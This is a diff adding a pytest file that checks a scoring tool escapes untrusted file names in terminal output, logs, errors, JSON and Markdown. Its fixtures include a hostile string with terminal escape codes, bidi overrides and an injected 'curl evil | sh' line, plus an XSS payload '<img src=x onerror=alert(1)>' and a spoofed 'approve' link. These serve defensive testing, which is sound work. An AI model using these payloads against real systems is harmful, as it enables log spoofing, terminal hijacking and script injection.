@@ -1,0 +1,80 @@
+"""Names from outside, where people read them: the terminal, the log, an error, a page of Prefect's."""
+
+import io
+import json
+import logging
+
+import pytest
+
+from flows.markdown import code, escaped, fenced
+from schemas.text import json_printable, printable
+from scoring.cli import app, show
+from scoring.errors import CorruptFileError
+
+HOSTILE = "a\x1b]0;title\x07\r\n  next:     curl evil | sh\u202e\x9b2J\u2028b.parquet"
+SHOWN = r"a\x1b]0;title\x07\r\n  next:     curl evil | sh\u202e\x9b2J\u2028b.parquet"
+
+
+def test_what_cannot_be_seen_is_written_as_an_escape() -> None:
+    assert printable(HOSTILE) == SHOWN
+    assert printable("\udcff") == r"\udcff"
+
+
+@pytest.mark.parametrize("text", ["plain", "größe/日本語/🎯", "a`b|c<d>[e]", r"back\slash", ""])
+def test_what_can_be_seen_stays(text: str) -> None:
+    assert printable(text) == text
+
+
+def test_json_says_the_same_without_control_characters() -> None:
+    document = {HOSTILE: ["\x7f", "é", "\U000e0041", 1]}
+    text = json_printable(json.dumps(document, ensure_ascii=False, indent=2))
+    assert json.loads(text) == document
+    assert "é" in text
+    assert all(c.isprintable() or c == "\n" for c in text)
+
+
+def test_an_error_has_no_more_lines_than_it_has_parts() -> None:
+    error = CorruptFileError("bad", HOSTILE, HOSTILE, HOSTILE, HOSTILE, [HOSTILE, HOSTILE])
+    lines = str(error).splitlines()
+    assert len(lines) == 7
+    assert all(line.isprintable() for line in lines)
+
+
+def test_the_terminal_shows_names_as_they_are(monkeypatch: pytest.MonkeyPatch) -> None:
+    terminal = show._Terminal(width=200)
+    written = io.StringIO()
+    monkeypatch.setattr("sys.stdout", written)
+    terminal.print(f"[bold]{HOSTILE}[/bold] [/x] :smile:")
+    assert written.getvalue() == f"[bold]{SHOWN}[/bold] [/x] :smile:\n"
+
+
+def test_a_table_shows_names_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
+    show.print_table("of [/x]", ("file",), [{"file": "[/red]\x1b[31m"}])
+    assert r"[/red]\x1b[31m" in capsys.readouterr().out
+
+
+def test_a_log_record_is_one_line(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("sys.stderr", io.StringIO())
+    logger = logging.getLogger("scoring")
+    monkeypatch.setattr(logger, "handlers", [])
+    monkeypatch.setattr(logger, "propagate", True)
+    monkeypatch.setattr(logger, "level", logger.level)
+    app.log_to(verbose=False)
+    (handler,) = logger.handlers
+    text = handler.format(logging.LogRecord("scoring", logging.WARNING, "", 0, "%s", (HOSTILE,), None))
+    assert text.endswith(f"WARNING {SHOWN}")
+
+
+def test_a_name_in_markdown_is_neither_markdown_nor_html() -> None:
+    hostile = "a`]\n```\n<img src=x onerror=alert(1)>\n[approve](https:evil)|"
+    assert not set("`<>[]|\n") & set(escaped(hostile))
+    assert code(hostile) == escaped(printable(hostile))
+    assert code("<b>.parquet") == "`<b>.parquet`"
+
+
+@pytest.mark.parametrize("run", ["```", "`````", "text"])
+def test_no_line_of_a_block_of_code_closes_it(run: str) -> None:
+    first, *lines, last = fenced(f"one\n{run}\n<img>")
+    assert first == last
+    assert lines == ["one", run, "<img>"]
+    assert all(first not in line for line in lines)
